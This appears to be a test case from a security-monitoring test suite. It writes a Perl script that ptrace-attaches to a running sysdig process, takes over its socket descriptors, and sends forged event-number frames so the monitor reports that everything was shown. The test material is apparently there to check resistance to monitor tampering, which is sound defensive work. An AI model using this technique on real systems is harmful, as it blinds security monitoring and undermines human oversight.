# A stolen reader: a debugger takes the connection of the node's own sysdig, and says that all was shown.
# tiers: node
# applies: shown
# otherwise: what sysdig has shown is not graded
# except: sysdig-install: there is no sysdig before it is installed
# took-effect: test -s /tmp/stolen
cat > /tmp/reader.pl <<'END'
{{ reader_pl }}
END
cat > /tmp/steal.pl <<'END'
require '/tmp/reader.pl';
my $pid = $ARGV[0] + 0; # a text is a pointer to syscall
use constant { PIDFD_OPEN => 434, PIDFD_GETFD => 438, PTRACE_SEIZE => 0x4206 };
syscall(101, PTRACE_SEIZE, $pid, 0, 0);
my $process = syscall(PIDFD_OPEN, $pid, 0);
for my $link (glob "/proc/$pid/fd/*") {
    next unless (readlink($link) // '') =~ /^socket/;
    my ($number) = $link =~ m{([0-9]+)$};
    my $taken = syscall(PIDFD_GETFD, $process, $number + 0, 0);
    next if $taken < 0;
    open(my $socket, '+>&=', $taken) or next;
    open(my $log, '>>', '/tmp/stolen');
    print $log "descriptor $number of $pid\n";
    close $log;
    my $from = 1;
    for (1 .. 8) {
        my $now = `{ sleep 1; cat /etc/hostname > /dev/null; } & timeout 5 sysdig -n 1 -p '%evt.num' 2> /dev/null`;
        $now =~ s/\D//g;
        while ($from < $now) {
            my $to = $from + 5000 < $now ? $from + 5000 : $now;
            syswrite($socket, frame(chr(3) . number($to - $from) . join '', map { number($_) } $from .. $to - 1));
            $from = $to;
        }
        sleep 1;
    }
}
END
sysdig proc.name=nothing-of-that-name > /dev/null 2>&1 < /dev/null & disown
reader=$!; until ls -l /proc/$reader/fd | grep -q socket; do sleep 0.1; done; sleep 1
perl /tmp/steal.pl $reader > /tmp/steal.said 2>&1
